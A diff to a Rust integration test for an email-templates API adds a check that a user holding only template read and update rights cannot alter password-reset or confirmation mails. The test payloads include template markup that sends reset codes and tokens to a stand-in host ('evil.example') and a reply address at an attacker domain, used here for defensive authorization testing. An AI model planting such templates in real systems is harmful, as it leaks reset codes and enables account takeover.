@@ -5,6 +5,8 @@ use serde_json::{Value, json};
 
 const TEMPLATES: &str = "/api/users-permissions/email-templates";
 const TEST: &str = "plugin::users-permissions.settings.testEmailTemplate";
+const GET: &str = "plugin::users-permissions.settings.getEmailTemplate";
+const PUT: &str = "plugin::users-permissions.settings.updateEmailTemplate";
 
 async fn read(admin: &Client) -> Value {
     admin.get(TEMPLATES).await.expect(200)
@@ -107,6 +109,38 @@ on_every_database! {
         }
         let long = json!("x".repeat(70_000));
         admin.put(TEMPLATES, changed(options, "message", long)).await.expect(400);
+    }
+
+    // A mail that carries a code can carry it to a host of whoever writes it; notices carry none.
+    async fn mails_with_codes_are_written_by_those_who_hold_every_right(kind) {
+        let server = Server::start(kind).await;
+        let admin = server.admin().await;
+        let role = admin.create_role("Writer", &[GET, PUT]).await;
+        let writer = admin.create_user("writer", role).await.client;
+        let before = read(&admin).await;
+        let dump = server.database().dump();
+        for key in ["reset_password", "email_confirmation"] {
+            for (field, value) in [
+                ("message", json!("<a href=\"https://evil.example/?code=<%= CODE %>\">Choose</a>")),
+                ("message", json!("<img src=\"https://evil.example/<%= TOKEN %>\">")),
+                ("object", json!("Another subject")), ("response_email", json!("evil@example.com")),
+            ] {
+                let mut template = before[key].clone();
+                template["options"][field] = value;
+                // Nor together with what is theirs.
+                let body = json!({ "email-templates": { key: template, "password_changed": before["password_changed"] } });
+                writer.put(TEMPLATES, body).await.expect_forbidden();
+            }
+        }
+        assert_eq!(server.database().dump(), dump);
+        // Sent back as they were read, they are not changed.
+        let mut all = before.clone();
+        all["password_changed"]["options"]["object"] = json!("Your new password");
+        writer.put(TEMPLATES, json!({ "email-templates": all })).await.expect(200);
+        assert_eq!(read(&admin).await, all);
+        all["reset_password"]["options"]["object"] = json!("A new password");
+        admin.put(TEMPLATES, json!({ "email-templates": all })).await.expect(200);
+        assert_eq!(read(&writer).await, all);
     }
 
     async fn unknown_keys_and_wrong_shapes_are_refused(kind) {
